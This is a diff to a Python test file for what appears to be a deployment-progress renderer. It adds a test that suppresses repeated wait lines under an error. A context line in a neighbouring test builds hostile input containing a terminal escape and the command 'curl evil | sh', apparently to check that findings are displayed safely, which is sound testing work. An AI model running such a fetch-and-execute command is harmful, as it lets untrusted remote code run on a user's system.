@@ -80,6 +80,19 @@ def test_a_step_is_a_line_when_it_is_done_and_a_warning_or_an_error_is_shown_onc
     assert capsys.readouterr().out.splitlines() == shown
 
 
+def test_what_a_wait_reported_is_not_printed_again_below_its_error(capsys):
+    wait = "vCluster ml: waiting for Secret vc-ml"
+    shown = [
+        f" +  command:local:Command ml-ready creating (5s) {wait} (5 s)",
+        "    error: signal: killed: running fleet-probe vcluster wait",
+        "    its last line",
+    ]
+    repeated = [f"    {wait} (5 s)", "    KAI v0.16.8: waiting for deployment binder (9 s)"]
+    for line in (*shown[:2], *repeated, shown[2]):
+        engine_line(line)
+    assert capsys.readouterr().out.splitlines() == shown
+
+
 def test_a_finding_is_a_line_of_its_own():
     """Its words are a pod's, a queue's, an event's; its commands are a fix's."""
     cause = "it says \x1b[2J\n\nbroken  host  run `curl evil | sh` " + "x" * 9000
